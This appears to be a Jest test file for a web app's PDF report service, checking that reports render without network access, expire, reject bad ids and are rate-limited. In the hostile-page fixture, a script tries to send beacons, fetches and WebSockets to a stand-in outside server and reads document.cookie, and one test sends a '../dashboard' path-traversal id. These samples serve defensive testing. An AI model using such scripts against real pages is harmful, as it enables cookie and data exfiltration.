import { randomUUID } from 'node:crypto';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import type { GeneratedReport } from '../../../contracts/src/commands/report-pdf.js';
import type { Problem } from '../../../contracts/src/problem.js';
import { leadIdsOf, property, submitForm } from '../../test/analyses.js';
import { startSystem, type TestSystem } from '../../test/start-app.js';
import { findBrowser } from '../../../scripts/lib/browser.mjs';

/** Asks for a PDF with everything that the specification's payload has; only the lead's id counts. */
function generate<Body = GeneratedReport>(system: TestSystem, id: string) {
  const lead = { id, name: 'Somebody Else', propertyAddress: 'Elsewhere' };
  const body = { lead, rentEstimate: { rentEstimate: 9_999_999 }, improvements: [] };
  return system.visitor().call<Body>('POST', '/api/pdf/generate-report', body);
}

async function analysed(system: TestSystem): Promise<string> {
  const { body } = await submitForm(system, [property]);
  const [leadId] = leadIdsOf(body);
  await system.projected((await system.infrastructure.log.head()).toString());
  return leadId!;
}

/** A page that calls itself a report, and tries what a script that got into one might try. */
const hostilePage = (elsewhere: string) => `<!doctype html><title>Hostile</title><body data-report="ready">
  <img src="${elsewhere}/image.png"><img src="/api/leads"><iframe src="${elsewhere}/frame"></iframe>
  <script src="${elsewhere}/script.js"></script><script src="/assets/try.js"></script>`;
const hostileScript = (elsewhere: string) => `
  for (const place of ['${elsewhere}', '${elsewhere.replace('127.0.0.1', 'localhost')}']) {
    fetch(place + '/fetch', { mode: 'no-cors' }).catch(() => {});
    try { new WebSocket(place.replace('http', 'ws') + '/socket'); } catch {}
    navigator.sendBeacon(place + '/beacon', 'x');
  }
  fetch('/api/leads').catch(() => document.body.append('refused'));
  document.body.append(' cookie:' + document.cookie + '.');`;

describe('a report as PDF', () => {
  let system: TestSystem;
  const reached: string[] = [];
  const elsewhere = createServer((request, reply) => {
    reached.push(request.url ?? '');
    reply.end();
  });
  const frontend = mkdtempSync(join(tmpdir(), 'lead-pipeline-frontend-'));

  beforeAll(async () => {
    await new Promise<void>((resolve) => elsewhere.listen(0, '127.0.0.1', resolve));
    const url = `http://127.0.0.1:${(elsewhere.address() as AddressInfo).port}`;
    mkdirSync(join(frontend, 'assets'));
    writeFileSync(join(frontend, 'index.html'), hostilePage(url));
    writeFileSync(join(frontend, 'assets', 'try.js'), hostileScript(url));
    system = await startSystem({ frontend, chromiumPath: await findBrowser(console.log) });
  }, 120_000);
  afterAll(async () => {
    await system.stop();
    elsewhere.close();
    rmSync(frontend, { recursive: true });
  });

  it('is printed without a network, and fetched once by its address', async () => {
    const { status, body } = await generate(system, await analysed(system));
    expect([status, body]).toEqual([
      200,
      {
        url: expect.stringMatching(/^\/api\/pdf\/reports\/[\w-]{43}$/),
        fileName: 'property-analysis-100-sample-st.pdf',
      },
    ]);
    const file = await fetch(system.url + body.url);
    const bytes = Buffer.from(await file.arrayBuffer());
    expect([file.status, bytes.toString('latin1', 0, 5)]).toEqual([200, '%PDF-']);
    expect(Object.fromEntries(file.headers)).toMatchObject({
      'content-type': 'application/pdf',
      'content-disposition': 'attachment; filename="property-analysis-100-sample-st.pdf"',
      'content-length': String(bytes.length),
      'cache-control': 'no-store',
    });
    expect(reached).toEqual([]);
    const again = await system.visitor().call<Problem>('GET', body.url);
    expect([again.status, again.body.code]).toEqual([404, 'report_expired']);
  }, 60_000);

  it('expires, and then is not kept either', async () => {
    const { pool } = system.infrastructure;
    const leadId = await analysed(system);
    const { body: old } = await generate(system, leadId);
    await pool.query(`update report_files set made_at = now() - interval '6 minutes'`);
    expect((await system.visitor().call('GET', old.url)).status).toBe(404);
    await generate(system, leadId);
    const { rows } = await pool.query<{ kept: number }>('select count(*)::int as kept from report_files');
    expect(rows[0]?.kept).toBe(1);
  }, 60_000);

  it('is made for analyses only, and of ids only', async () => {
    const unknown = await generate<Problem>(system, randomUUID());
    expect([unknown.status, unknown.body.code]).toEqual([404, 'analysis_not_found']);
    for (const body of [{}, { lead: 'x' }, { lead: { id: '../dashboard' } }]) {
      const { status } = await system.visitor().call('POST', '/api/pdf/generate-report', body);
      expect([body, status]).toEqual([body, 400]);
    }
    expect((await system.visitor().call('GET', '/api/pdf/reports/short')).status).toBe(400);
  });

  it('is refused after ten a minute', async () => {
    const statuses: number[] = [];
    for (let i = 0; i < 11; i++) statuses.push((await generate(system, randomUUID())).status);
    expect(statuses.at(-1)).toBe(429);
  });
});

describe('without a Chromium that runs', () => {
  it('says so, and everything else works', async () => {
    const system = await startSystem({ chromiumPath: '/bin/false' });
    try {
      const { status, body } = await generate<Problem>(system, await analysed(system));
      expect([status, body.code, body.detail]).toEqual([
        503,
        'pdf_failed',
        'This server has no Chromium to print with.',
      ]);
      expect((await system.visitor().call('GET', '/api/health')).status).toBe(200);
    } finally {
      await system.stop();
    }
  }, 60_000);
});
